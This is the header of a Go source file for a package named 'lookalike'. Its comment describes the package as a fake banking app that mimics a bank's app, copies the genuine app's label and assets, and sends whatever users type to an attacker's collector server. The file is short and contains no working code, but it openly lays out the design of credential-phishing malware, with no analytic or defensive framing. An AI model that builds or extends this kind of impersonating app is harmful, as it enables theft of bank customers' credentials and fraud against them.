// Package lookalike is an app that looks like the bank's and sends what is typed into it to
// the attacker.
//
//	app.go        the app: this very program, started by a device under the app's name
//	pack.go       makes a package of it, with the genuine app's label and assets
//	collector.go  the server to which it sends
package lookalike
